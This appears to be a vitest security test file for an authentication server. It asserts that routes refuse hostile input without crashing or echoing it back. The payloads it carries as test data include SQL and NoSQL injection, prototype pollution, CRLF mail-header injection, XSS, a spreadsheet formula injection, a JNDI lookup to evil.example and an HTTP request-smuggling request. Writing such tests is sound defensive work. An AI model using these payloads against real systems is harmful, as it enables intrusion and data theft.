import { connect } from "node:net"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { formTokenIn, submitOn } from "./account-pages.ts"
import { callRoute, nativeRoutes, otherRoutes, personPages, type Route } from "./every-route.ts"
import { credentials, type Ground, type Json, must, startGround } from "./ground.ts"

let ground: Ground
let routes: readonly Route[]
beforeAll(async () => {
  ground = await startGround({ listen: true })
  routes = [
    ...(await nativeRoutes(ground)),
    ...personPages,
    ...otherRoutes,
    ...[
      "/api/accounts/login",
      "/api/accounts/twostepverification",
      "/api/accounts/registration",
      "/api/accounts/resetpassword",
    ].map(anybody),
    ...[
      "/identity/login",
      "/identity/register",
      "/identity/refresh",
      "/identity/resetPassword",
      "/api/2.0/authentication",
    ].map(anybody),
    ...["/account/sign-in", "/account/sign-up", "/account/forgot", "/account/reset-password"].map((path) => ({
      ...anybody(path),
      form: true as const,
    })),
  ]
})
afterAll(() => ground.close())

const anybody = (path: string): Route => ({ method: "POST", path, security: [], body: {} })
const marker = "zqMARKERqz"
/** Everything but the line break and the tab, which a mail has of its own. */
const controls = /(?![\n\t])[\p{Cc}\u2028\u2029]/u

describe("a body that means no good", () => {
  const deep = (levels: number, open: string, close: string): string => open.repeat(levels) + close.repeat(levels)
  const bodies: readonly string[] = [
    "{",
    "null",
    "[]",
    '"x"',
    `{"${marker}":1}`,
    `{"email":"${marker}\\r\\nBcc: x@evil.example","password":"${marker}"}`,
    '{"__proto__":{"type":"operator"},"constructor":{"prototype":{"aal":2}}}',
    `{"email":{"$gt":""},"password":{"$ne":null}}`,
    `{"email":["${marker}"],"password":true}`,
    `{"email":"${marker}' or '1'='1","password":"' or 1=1 --","userName":"x","code":"1"}`,
    String.raw`{"email":"\ud800","password":"\u0000${marker}"}`,
    '{"email":"a@b.example","email":"c@d.example","Email":"e@f.example"}',
    deep(8000, "[", "]"),
    deep(2000, '{"a":', "}"),
    `{"a":"${"x".repeat(20_000)}"}`,
    `{"email":"${"a".repeat(9000)}@example.com","password":"${"p".repeat(6000)}"}`,
    `{"n":1e400,"m":-0,"k":${"9".repeat(400)}}`,
  ]

  test("is refused at every route without a fault and without an echo (B1, B19, V16.5)", async () => {
    const who = await ground.person()
    const browser = await ground.signedIn(who)
    const { token } = await ground.bearer(who)
    must(await browser.get("/account"), 200)
    const form = formTokenIn((await browser.get("/account/password")).text)
    const cookie = [...browser.cookies].map((pair) => pair.join("=")).join("; ")
    const wrong: unknown[] = []
    for (const route of routes.filter(({ method }) => method !== "GET"))
      for (const body of bodies) {
        const asForm = `form=${encodeURIComponent(form)}&code=${encodeURIComponent(body)}&email=${encodeURIComponent(body)}&name=${encodeURIComponent(body)}&password=${encodeURIComponent(body)}`
        const sent = await callRoute(ground, route, {
          headers: route.form ? { cookie } : { authorization: `Bearer ${token}` },
          body: route.form ? asForm : body,
        })
        if (sent.status >= 500) wrong.push([route.method, route.path, body.slice(0, 60), sent.status])
        // A page may show what was typed in its own field again, as text.
        if (!route.form && sent.status >= 400 && sent.text.includes(marker)) wrong.push([route.path, "echo", sent.text])
        if (route.form && /<[^>]*zqMARKERqz[^"=]*>/.test(sent.text.replaceAll(/value="[^"]*"/g, "")))
          wrong.push([route.path, "markup"])
      }
    expect(wrong).toEqual([])
    expect(await ground.whoIs(browser)).toBe(who.email)
  })

  test("of any length is cut off, also where it says that it is short, or says nothing (V13)", async () => {
    const big = "x".repeat(3_000_000)
    for (const path of [
      "/v1/sign-in",
      "/account/sign-in",
      "/api/accounts/login",
      "/identity/login",
      "/api/2.0/authentication",
    ]) {
      const type = path.startsWith("/account") ? "application/x-www-form-urlencoded" : "application/json"
      const sent = await fetch(`${ground.server.url}${path}`, {
        method: "POST",
        headers: { "content-type": type },
        body: big,
      })
      expect([path, sent.status]).toEqual([path, 413])
      const stream = new ReadableStream<Uint8Array>({
        pull(controller) {
          controller.enqueue(new Uint8Array(64 * 1024).fill(0x20))
        },
      })
      const endless = fetch(`${ground.server.url}${path}`, {
        method: "POST",
        headers: { "content-type": type },
        body: stream,
        duplex: "half",
      } as RequestInit)
      await endless.then(
        ({ status }) => expect([path, status]).toEqual([path, 413]),
        () => undefined,
      )
    }
    expect((await fetch(`${ground.server.url}/readyz`)).status).toBe(200)
  })
})

describe("what stands in headers", () => {
  /** Bytes as they are, which no fetch would send. Gives the status line's number; 0 where the line was cut. */
  const raw = (bytes: Buffer): Promise<number> =>
    new Promise((resolve) => {
      const { port } = new URL(ground.server.url)
      const socket = connect(Number(port), "127.0.0.1", () => socket.write(bytes))
      let told = ""
      const done = (): void => {
        socket.destroy()
        resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(told)?.[1] ?? 0))
      }
      socket.setEncoding("latin1").on("data", (text: string) => {
        told += text
        if (told.includes("\r\n\r\n")) done()
      })
      socket.on("close", done).on("error", done).setTimeout(3000, done)
    })
  const signIn = (body: string, headers: string): Buffer =>
    Buffer.from(
      `POST /v1/sign-in HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n${headers}Connection: close\r\n\r\n${body}`,
      "latin1",
    )

  test("puts no line of its own into the record, a list or a mail (V16.4.1)", async () => {
    const who = await ground.person()
    const body = JSON.stringify(credentials(who))
    const agents = [
      "Evil\r\nX-Injected: 1",
      "Evil\rX-Injected: 1",
      "Evil\nBcc: victim@evil.example",
      "Evil\u0000null",
      "Evil\u001b[31mred",
      "Evil \u0085next \u00a0blank",
      `<script>alert(1)</script><img src=x onerror="1">`,
      "=cmd|'/C calc'!A0",
      "A".repeat(8000),
      Buffer.from("\u2028\u2029\u202eevil \ud83e\udd8a", "utf8").toString("latin1"),
      "Mozilla/5.0 (%s %n {0} ${jndi:ldap://evil.example/a})",
    ]
    for (const agent of agents) {
      const status = await raw(
        signIn(body, `User-Agent: ${agent}\r\nAccept-Language: ${agent}\r\nX-Forwarded-For: ${agent}\r\n`),
      )
      expect([agent.slice(0, 20), status === 0 || status === 200 || (status >= 400 && status < 500)]).toEqual([
        agent.slice(0, 20),
        true,
      ])
    }
    // A wrong code makes a mail that speaks of the browser.
    for (const agent of [agents[6], agents[10], "Firefox/1.0\u0085Windows"]) {
      const half = await ground.half(who, { agent: agent ?? "" })
      await half.post("/v1/challenge/answer", { kind: "totp", answer: "000000" })
      ground.server.clock.advance(3600)
    }
    for (const { subject, text, html } of await ground.server.mails.to(who.email)) {
      expect(`${subject}${text}`).not.toMatch(controls)
      expect(html).not.toMatch(/<script|<img|onerror/)
      expect(text).not.toContain("Bcc:")
      expect(text).not.toContain("jndi")
    }
    const browser = await ground.signedIn(who, { agent: agents[6] ?? "" })
    for (const path of ["/v1/activity?limit=100", "/v1/sessions"]) {
      const { text } = must(await browser.get(path), 200)
      expect(text).not.toMatch(controls)
      for (const match of text.matchAll(/"agent":"((?:[^"\\]|\\.)*)"/g))
        expect(match[1]?.length).toBeLessThanOrEqual(420)
    }
    for (const page of ["/account", "/account/activity"])
      expect((await browser.get(page)).text).not.toMatch(/<script>alert|<img src=x/)
  })

  test("is no way around a route or its method (C4, C13)", async () => {
    const who = await ground.person()
    const browser = await ground.signedIn(who)
    const plain = ground.client()
    for (const name of ["x-http-method-override", "x-http-method", "x-method-override"]) {
      expect((await plain.post(`/v1/factors/${who.factorId}`, {}, { [name]: "DELETE" })).status).toBe(405)
      expect((await browser.post("/v1/me", {}, { [name]: "GET" })).status).toBe(405)
    }
    for (const path of [
      "/v1/me",
      "/v1//me",
      "/v1/./me",
      "/v1/x/../me",
      "/v1/me/",
      "/v1/me;x",
      "/v1/me%2f",
      "/V1/me",
      "/v1/%6de",
      "//v1/me",
      "/v1/me%00",
      "/v1/me?x#y",
    ])
      expect([path, (await plain.get(`${ground.server.url}${path}`)).status >= 400]).toEqual([path, true])
    for (const header of [
      "x-original-url",
      "x-rewrite-url",
      "x-forwarded-prefix",
      "x-forwarded-user",
      "x-remote-user",
      "x-user-id",
    ])
      expect((await plain.get("/v1/me", { [header]: who.id })).status).toBe(401)
    for (const method of ["TRACE", "CONNECT", "PROPFIND", "TRACK"])
      expect([0, 400, 404, 405, 501]).toContain(
        await raw(Buffer.from(`${method} /v1/me HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)),
      )
    // Two lengths, or a length and chunks: one request or none, never the start of a second.
    const smuggled =
      "POST /v1/sign-in HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/me HTTP/1.1\r\nHost: x\r\n\r\n"
    expect(await raw(Buffer.from(smuggled))).toBe(400)
  })

  test("is not longer than a head may be, and no cookie of another shape is one of ours (V13)", async () => {
    expect([0, 400, 431]).toContain(await raw(signIn("{}", `X-Long: ${"a".repeat(64_000)}\r\n`)))
    const odd = [
      "countersign=",
      "countersign=;",
      "countersign= ",
      "countersign==",
      'countersign="css_x"',
      "countersign=css_x,countersign=css_y",
      "; ; ;",
      "=",
      `countersign=${"a".repeat(5000)}`,
      "countersign=css_%00",
      "Countersign=css_x",
    ]
    for (const cookie of odd) {
      const response = await ground.server.fetch(new Request(`${ground.server.url}/v1/me`, { headers: { cookie } }), {
        address: "192.0.2.1",
      })
      expect([cookie.slice(0, 30), response.status]).toEqual([cookie.slice(0, 30), 401])
    }
    for (const authorization of [
      "Bearer",
      "Bearer ",
      "bearer css_x",
      "Bearer css_x css_y",
      "Bearer css_x, Basic eDp5",
      `Bearer ${"a".repeat(9000)}`,
      "Negotiate x",
      "Bearer \u00ff",
    ])
      expect((await ground.client().get<Json>("/v1/me", { authorization })).status).toBe(401)
  })
})

test("names with markup and other scripts are shown as the text that they are (XSS)", async () => {
  const nasty = `"><script>alert(1)</script>'\u202e&lt;`
  const who = await ground.person()
  const browser = await ground.signedIn(who)
  must(await browser.patch("/v1/me", { firstName: nasty, lastName: "</title><svg onload=alert(1)>" }), 200)
  must(await browser.patch(`/v1/factors/${who.factorId}`, { name: nasty.slice(0, 40) }), 200)
  must(await browser.post("/v1/api-keys", { name: "<img src=x onerror=alert(1)>" }), 201)
  for (const path of [
    "/account",
    "/account/profile",
    "/account/activity",
    `/account/factors/${who.factorId}`,
    `/account/factors/${who.factorId}/remove`,
  ]) {
    const { text } = must(await browser.get(path), 200)
    expect(text).not.toMatch(/<script>alert|<svg onload|<img src=x/)
  }
  const refused = await submitOn(ground.client(), "/account/sign-in", "/account/sign-in", {
    email: nasty,
    password: nasty,
  })
  expect(refused.text).not.toMatch(/<script>alert/)
  const query = await ground
    .client()
    .get(`/account/sign-in?done=${encodeURIComponent(nasty)}&return_to=${encodeURIComponent(nasty)}`)
  expect(query.text).not.toMatch(/<script>alert/)
})
